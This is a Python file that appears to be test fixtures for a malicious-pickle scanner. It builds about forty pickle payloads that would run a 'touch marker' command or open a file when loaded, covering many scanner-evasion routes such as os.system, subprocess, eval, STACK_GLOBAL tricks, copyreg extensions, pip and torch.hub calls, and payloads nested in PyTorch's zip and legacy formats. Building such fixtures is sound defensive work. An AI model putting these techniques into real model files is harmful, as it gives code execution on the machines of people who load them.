"""Hand-made pickles: payloads that would create a marker file, and the containers they come in."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
TENSORS = b"\x80\x02}q\x00."


def payloads(marker: str) -> dict[str, bytes]:
    """Streams that would run `touch marker` or the like in a real loader, one for each way to get there."""
    command = f"touch {marker}"
    text = command.encode()
    short = b"\x8c" + bytes([len(text)]) + text

    def word(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode()

    def line(value: str) -> bytes:
        return b"V" + value.encode() + b"\n"

    opener = f"open({marker!r}, 'w')"
    return {
        "reduce-os-system": b"\x80\x02cos\nsystem\n(" + line(command) + b"tR.",
        "posix-system": b"\x80\x02cposix\nsystem\n(" + line(command) + b"tR.",
        "nt-system": b"\x80\x02cnt\nsystem\n(" + line(command) + b"tR.",
        "subprocess": b"\x80\x02csubprocess\nPopen\n((l" + line("touch") + b"a" + line(marker) + b"atR.",
        "eval": b"\x80\x02cbuiltins\neval\n(" + line(opener) + b"tR.",
        "exec-python-2-name": b"\x80\x02c__builtin__\nexec\n(" + line(opener) + b"tR.",
        "stack-global": b"\x80\x04" + word("os") + word("system") + b"\x93" + short + b"\x85R.",
        "stack-global-memoised": b"\x80\x04"
        + word("system")
        + b"\x94"
        + word("os")
        + b"\x94h\x01h\x00\x93"
        + short
        + b"\x85R.",
        "stack-global-after-pop": b"\x80\x04"
        + word("os")
        + word("x")
        + b"0"
        + word("system")
        + b"\x93"
        + short
        + b"\x85R.",
        "stack-global-dup": b"\x80\x04" + word("os") + b"20" + word("system") + b"\x93" + short + b"\x85R.",
        "stack-global-computed": b"\x80\x04c_codecs\nencode\n"
        + word("os")
        + b"\x85R"
        + word("system")
        + b"\x93"
        + short
        + b"\x85R.",
        "inst": b"(" + line(command) + b"ios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + line(command) + b"o.",
        "newobj": b"\x80\x02csubprocess\nPopen\n(" + line(command) + b"t\x81.",
        "newobj-ex": b"\x80\x04csubprocess\nPopen\n)}" + word("args") + word(command) + b"s\x92.",
        "extension-1": b"\x80\x02\x82\x01(" + line(command) + b"tR.",
        "extension-2": b"\x80\x02\x83\x01\x00(" + line(command) + b"tR.",
        "extension-4": b"\x80\x02\x84\x01\x00\x00\x00(" + line(command) + b"tR.",
        "copyreg-add-extension": b"\x80\x02ccopyreg\nadd_extension\n("
        + line("os")
        + line("system")
        + b"K\x01tR0\x82\x01("
        + line(command)
        + b"tR.",
        "getattr": b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n("
        + line("os")
        + b"tR"
        + line("system")
        + b"tR("
        + line(command)
        + b"tR.",
        "dotted-name": b"\x80\x04" + word("torch.serialization") + word("os.system") + b"\x93" + short + b"\x85R.",
        "dotted-collections": b"\x80\x04"
        + word("collections")
        + word("_sys.modules.get")
        + b"\x93"
        + word("os")
        + b"\x85R.",
        "operator-attrgetter": b"\x80\x02coperator\nattrgetter\n("
        + line("system")
        + b"tR(cimportlib\nimport_module\n("
        + line("os")
        + b"tRtR("
        + line(command)
        + b"tR.",
        "pkgutil": b"\x80\x02cpkgutil\nresolve_name\n(" + line("os:system") + b"tR(" + line(command) + b"tR.",
        "functools-partial": b"\x80\x02cfunctools\npartial\n(cos\nsystem\n" + line(command) + b"tR)R.",
        "runpy": b"\x80\x02crunpy\n_run_code\n(" + line(opener) + b"}tR.",
        "pip": b"\x80\x02cpip\nmain\n((l" + line("install") + b"a" + line("x") + b"atR.",
        "torch-hub": b"\x80\x02ctorch.hub\nload\n(" + line("a/b") + line("c") + b"tR.",
        "torch-load": b"\x80\x02ctorch\nload\n(" + line(marker) + b"tR.",
        "numpy-runstring": b"\x80\x02cnumpy.testing._private.utils\nrunstring\n(" + line(opener) + b"}tR.",
        "unknown-library": b"\x80\x02cfriendly.helpers\nrun\n(" + line(command) + b"tR.",
        "build-on-class": b"\x80\x02ccollections\nOrderedDict\n}" + line("fromkeys") + b"cos\nsystem\nsb.",
        "build-setstate": b"\x80\x02ccollections\nOrderedDict\n)\x81}"
        + line("__setstate__")
        + b"cos\nsystem\nsb"
        + line(command)
        + b"b.",
        "defaultdict-factory": b"\x80\x02ccollections\ndefaultdict\n(cos\ngetcwd\ntR.",
        "from-type-v2": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n("
        + line(command)
        + b"t}tR.",
        "reconstructor": b"\x80\x02ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR.",
        "nested-load-from-bytes": _nested(text),
        "nested-in-the-keys": _nested_keys(text),
        "payload-then-broken": b"\x80\x02cos\nsystem\n(" + line(command) + b"tR" + b"\xff\xff\xff",
        "payload-then-cut": b"\x80\x02cos\nsystem\n(" + line(command) + b"tR",
        "second-stream": TENSORS + b"\x80\x02cos\nsystem\n(" + line(command) + b"tR.",
        "protocol-0": b"cos\nsystem\np0\n(" + line(command) + b"p1\ntp2\nRp3\n.",
        "protocol-0-hidden-in-dict": b"(dp0\nS'state_dict'\ncos\nsystem\n(" + line(command) + b"tRs.",
        "call-of-a-result": b"\x80\x02cos\nsystem\n)R(" + line(command) + b"tR.",
        "call-of-a-string": b"\x80\x02" + line("os.system") + b"(" + line(command) + b"tR.",
    }


def _nested(text: bytes) -> bytes:
    inner = b"\x80\x02cos\nsystem\n(V" + text + b"\ntR."
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def _nested_keys(text: bytes) -> bytes:
    """The fifth pickle of a nested old-format file is loaded too."""
    inner = (
        b"".join(pickle.dumps(value, 2) for value in (LEGACY_MAGIC, 1001, {}, {}))
        + b"cos\nsystem\n(V"
        + text
        + b"\ntR."
    )
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def as_zip(stream: bytes, *, root: str = "archive", name: str = "data.pkl", method: int = zipfile.ZIP_STORED) -> bytes:
    """Put a stream where torch keeps it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(f"{root}/{name}", stream)
        archive.writestr(f"{root}/version", b"3\n")
    return buffer.getvalue()


def as_legacy(stream: bytes) -> bytes:
    """Put a stream where torch's old format keeps the object."""
    head = b"".join(pickle.dumps(value, 2) for value in (LEGACY_MAGIC, 1001, {"little_endian": True}))
    return head + stream + pickle.dumps([], 2)


def as_plain(stream: bytes) -> bytes:
    return stream


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {"plain": as_plain, "zip": as_zip, "legacy": as_legacy}
